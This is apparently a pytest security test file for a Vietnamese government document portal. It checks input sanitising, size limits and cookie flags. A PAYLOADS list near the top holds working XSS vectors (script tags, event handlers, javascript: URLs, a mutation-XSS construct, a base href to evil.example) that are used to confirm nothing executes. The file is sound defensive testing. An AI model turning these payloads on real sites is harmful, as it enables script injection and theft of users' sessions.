"""Text that means harm: in every field of a document, in papers, in files; too much of it; and where cookies stand."""

from dataclasses import replace
from typing import Any

import pytest
from flows.inert import live_parts
from webtest import TestApp

import portal
from portal.accounts import service as accounts
from portal.publishing import service as publishing

pytestmark = pytest.mark.unmeasured
MARK = "xss7"
PAYLOADS = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"' onmouseover={MARK}() x='",
    f"</textarea></title></script><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f"<a href=\"javascript:{MARK}()\">a</a><a href=' java\nscript:{MARK}()'>b</a>",
    f"]]><script>{MARK}()</script><![CDATA[",
    f"{{{{ 7191 * 7 }}}} ${{7191 * 7}} {MARK}",
    f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe><base href='//evil.example/'>",
    f"<form action=//evil.example><button formaction=javascript:{MARK}()>x</button></form>",
    f"\u202e{MARK}\u2066<b onclick={MARK}()>",
)
ONE_LINE = tuple(payload for payload in PAYLOADS if "\n" not in payload)


@pytest.fixture
def unit(make):
    return make.agency(name="Cục Thử nghiệm")


@pytest.fixture
def editor(make, unit):
    return make.person(name=f"Người <script>{MARK}()</script>", editor=unit)


@pytest.fixture
def approver(make, unit):
    return make.person(name=f'Duyệt "><img src=x onerror={MARK}()>', approver=unit)


def typed(form: Any, payload: str) -> None:
    """The payload in every field of text that the form has."""
    for name, fields in form.fields.items():
        for one in fields:
            if (
                name
                and one.tag in ("input", "textarea")
                and getattr(one, "attrs", {}).get("type")
                not in (
                    "hidden",
                    "checkbox",
                    "radio",
                    "submit",
                    "file",
                )
            ):
                one.value = payload


def pages_about(edition: Any) -> list[str]:
    uid, number = edition.item.uid, edition.number
    desk = "/ban-lam-viec"
    return [
        desk,
        f"{desk}/van-ban",
        f"{desk}/muc/{uid}",
        f"{desk}/muc/{uid}/so-sanh",
        f"{desk}/van-ban/{uid}/xem-truoc/{number}",
        f"{desk}/van-ban/{uid}/sua",
        "/tai-khoan",
        "/",
        "/van-ban",
        "/van-ban.atom",
        "/en/van-ban.atom",
        "/so-do-trang",
        "/sitemap-1.xml",
        *([edition.item.path, "/en" + edition.item.path] if edition.item.path else []),
    ]


def assert_harmless(app: TestApp, addresses: list[str]) -> int:
    """No page runs anything; the number of pages that show the payload as text."""
    shown = 0
    for address in addresses:
        answer = app.get(address, expect_errors=True)
        assert answer.status_int < 500, address
        assert live_parts(answer) == [], address
        assert "50337" not in answer.text
        shown += MARK in answer.text
    return shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_typed_into_a_document_never_runs(app, db, at, make, unit, editor, approver, sign_in, payload):
    draft = make.notice(unit, by=editor)
    sign_in(app, editor)
    page = app.get(f"/ban-lam-viec/van-ban/{draft.item.uid}/sua")
    form = page.forms["van-ban"]
    typed(form, payload)
    assert live_parts(form.submit("save", expect_errors=True)) == []
    data = draft.data | {
        "title": payload,
        "body": f"<p>Nội dung.</p><p>{payload}</p>",
        "place": payload,
        "archive_line": payload,
        "summary": payload,
        "issuer": {"name": payload, "code": payload},
        "signer": {"name": payload, "position": payload, "authority": payload, "on_behalf": None},
        "recipients": [{"name": payload, "purpose": payload}],
        "relations": [{"relation": "amends", "number": payload, "title": payload}],
        "fields": [payload],
        "doubts": {"title": payload},
        "paper": payload,
    }
    publishing.save(db, draft, data, version=draft.version, by=editor, at=at)
    publishing.autosave(db, draft, editor, [("title", payload)], version=draft.version, at=at)
    assert assert_harmless(app, pages_about(draft)) >= 4
    publishing.publish_imported(db, draft, at=at)
    following = publishing.working_copy(db, draft.item, by=editor, at=at)
    publishing.save(db, following, data | {"title": "Khác", "doubts": {}}, version=following.version, by=editor, at=at)
    publishing.submit(db, following, version=following.version, by=editor, at=at)
    publishing.send_back(db, following, version=following.version, by=approver, at=at, why=payload)
    assert assert_harmless(app, pages_about(following)) >= 6
    publishing.withdraw(db, draft, version=draft.version, by=approver, at=at, why=payload)
    assert assert_harmless(app, pages_about(following)) >= 6


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_paper_never_runs(app, unit, editor, sign_in, payload):
    sign_in(app, editor)
    form = app.get("/ban-lam-viec/van-ban/moi").forms["van-ban-moi"]
    form["text"] = (
        f"VĂN PHÒNG CHÍNH PHỦ\nSố: 12/TB-{payload}\nHà Nội, ngày 01 tháng 7 năm 2014\nTHÔNG BÁO\nVề việc {payload}\n\n"
        f"1. {payload}\n\nNơi nhận:\n- {payload};\n- Lưu: VT.\nBỘ TRƯỞNG\n{payload}\n"
    )
    answer = form.submit("begin")
    assert answer.status_int == 303
    page = answer.follow()
    assert MARK in page.text
    assert live_parts(page) == []
    uid = page.request.path.split("/")[3]
    assert_harmless(app, [f"/ban-lam-viec/van-ban/{uid}/xem-truoc/1", f"/ban-lam-viec/muc/{uid}"])


@pytest.mark.parametrize("payload", ONE_LINE)
def test_what_is_typed_into_a_search_box_never_runs(app, make, unit, payload):
    make.notice(unit, published=True)
    for address in ("/van-ban", "/en/van-ban", "/co-quan", "/van-ban.atom"):
        assert live_parts(app.get(address, {"q": payload}, expect_errors=True)) == []
    for name in ("loai", "co-quan", "nam", "trang", payload):
        answer = app.get("/van-ban", {name: payload}, status=422)
        assert live_parts(answer) == []


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p onclick=x()>Nội dung</p>", "<p>Nội dung</p>"),
        ("<p style='background:url(javascript:x())'>A</p>", "<p>A</p>"),
        ("<script>x()</script><p>A</p>", "<p>A</p>"),
        ("<p><a href='javascript:x()'>A</a></p>", "A"),
        ("<p><a href='https://vidu.gov.vn/'>A</a></p>", 'href="https://vidu.gov.vn/"'),
        ("<img src=x onerror=x()><p>A</p>", "<p>A</p>"),
        ("<table><tr><td onmouseover=x()>A</td></tr></table>", "<td>A</td>"),
        ("<p>A<!--<script>x()</script>--></p>", "<p>A</p>"),
    ],
)
def test_the_body_keeps_its_text_and_loses_what_could_run(app, db, at, make, unit, html, kept):
    edition = make.notice(unit, published=True, body=html)
    page = app.get(edition.item.path)
    assert live_parts(page) == []
    assert kept in edition.data["body"].replace(' id="d1"', "")
    assert "x()" not in edition.data["body"]


NESTED = {
    "divisions": "<div>" * 5_000 + "Nội dung" + "</div>" * 5_000,
    "bold": "<b>" * 5_000 + "Nội dung",
    "lists": "<ul><li>" * 2_000 + "Nội dung",
    "tables": "<table><tr><td>" * 2_000 + "Nội dung",
    "quotations": "<blockquote>" * 5_000 + "Nội dung",
}


@pytest.mark.parametrize("kind", NESTED)
def test_deeply_nested_html_is_cut_down_to_its_text(app, make, unit, editor, sign_in, kind):
    draft = make.notice(unit, by=editor)
    sign_in(app, editor)
    form = app.get(f"/ban-lam-viec/van-ban/{draft.item.uid}/sua").forms["van-ban"]
    form["body"] = NESTED[kind]
    assert form.submit("save").status_int == 303
    assert "Nội dung" in draft.data["body"]


# -- too much


def test_a_field_that_is_too_long_is_refused_and_kept(app, make, unit, editor, sign_in):
    draft = make.notice(unit, by=editor)
    sign_in(app, editor)
    form = app.get(f"/ban-lam-viec/van-ban/{draft.item.uid}/sua").forms["van-ban"]
    form["place"] = "Huế"
    form.set("title", "Dài " * 3_000, 0)
    answer = form.submit("save", status=422)
    assert "Dài Dài" in answer.forms["van-ban"].get("title", 0).value
    assert draft.data["place"] == "Huế"
    assert draft.data["title"].startswith("Về việc")


@pytest.mark.parametrize("address", ["/ban-lam-viec/van-ban/moi", "edit", "autosave"])
def test_fifty_megabytes_of_paste_are_refused(app, make, unit, editor, sign_in, settings, address):
    draft = make.notice(unit, by=editor)
    sign_in(app, editor)
    token = app.get("/ban-lam-viec/van-ban/moi").forms["van-ban-moi"]["csrf_token"].value
    uid = draft.item.uid
    address = {
        "edit": f"/ban-lam-viec/van-ban/{uid}/sua",
        "autosave": f"/ban-lam-viec/muc/{uid}/ban/1/tu-luu",
    }.get(address, address)
    sent = {"csrf_token": token, "unit": str(unit.id), "version": "1", "text": "", "body": ""}
    sent["text" if address.endswith("moi") else "body"] = "<p>a</p> " * (50 * 1024 * 1024 // 9)
    answer = app.post(address, sent, expect_errors=True)
    assert answer.status_int == 413
    assert "quá lớn" in answer.text or "dài quá" in answer.text
    assert len(answer.body) < 100_000
    assert draft.version == 1


def test_a_form_of_very_many_or_very_deep_fields_is_refused(app, make, unit, editor, sign_in):
    draft = make.notice(unit, by=editor)
    sign_in(app, editor)
    address = f"/ban-lam-viec/van-ban/{draft.item.uid}/sua"
    token = app.get(address).forms["van-ban"]["csrf_token"].value
    head = [("csrf_token", token), ("version", "1")]
    deep = [("__start__", "recipients:sequence")] * 5_000 + [("__end__", "recipients:sequence")] * 5_000
    many = [(f"f{n}", "x") for n in range(50_000)]
    unbalanced = [("__start__", "recipients:sequence"), ("__start__", "row:mapping"), ("name", "x")]
    nonsense = [("__start__", "title:mapping"), ("x", "y"), ("__end__", "title:mapping"), ("__start__", "a:zzz")]
    for fields in (deep, many, unbalanced, nonsense):
        answer = app.post(address, head + fields, expect_errors=True)
        assert answer.status_int in (303, 400, 409, 413, 422)
        assert live_parts(answer) == []


# -- cookies


@pytest.fixture
def https(settings, database_url, db, at):
    """The same instance behind https."""
    secured = replace(settings, address="https://vidu.gov.vn")
    app = portal.configure(secured).make_wsgi_app()
    given = {"portal.db": db, "portal.at": at, "tm.active": "1", "wsgi.url_scheme": "https"}
    return TestApp(app, extra_environ=given | {"HTTP_HOST": "vidu.gov.vn"})


def cookies_of(answer: Any) -> dict[str, str]:
    return {line.split("=")[0]: line.lower() for line in answer.headers.getall("Set-Cookie")}


def test_cookies_of_a_sign_in_are_out_of_reach_of_scripts_and_other_sites(app, make, unit):
    from makers import PASSWORD

    person = make.person(editor=unit)
    form = app.get("/dang-nhap").forms["sign-in"]
    form["email"], form["password"] = person.email, PASSWORD
    found = cookies_of(form.submit("sign_in"))
    assert "portal_session" in found
    for line in found.values():
        assert "httponly" in line
        assert "samesite=lax" in line
        assert "path=/" in line
        assert "domain=" not in line


def test_over_https_cookies_belong_to_this_host_alone(https, db, at, make, unit):
    from makers import PASSWORD

    person = make.person(editor=unit)
    form = https.get("/dang-nhap").forms["sign-in"]
    form["email"], form["password"] = person.email, PASSWORD
    answer = form.submit("sign_in", headers={"Referer": "https://vidu.gov.vn/dang-nhap"})
    assert answer.status_int == 303
    found = cookies_of(answer)
    assert "__Host-portal_session" in found
    for name, line in found.items():
        assert name.startswith("__Host-")
        assert "; secure" in line
        assert "domain=" not in line
    assert "max-age" in answer.headers["Strict-Transport-Security"]


def test_a_sign_in_stolen_from_plain_http_is_worth_nothing_over_https(https, db, at, make, unit):
    token = accounts.open_session(db, make.person(editor=unit), at=at, ip="127.0.0.1", agent="x")
    https.get("/ban-lam-viec", headers={"Cookie": f"portal_session={token}"}, status=303)
    https.get("/ban-lam-viec", headers={"Cookie": f"__Host-portal_session={token}"}, status=200)
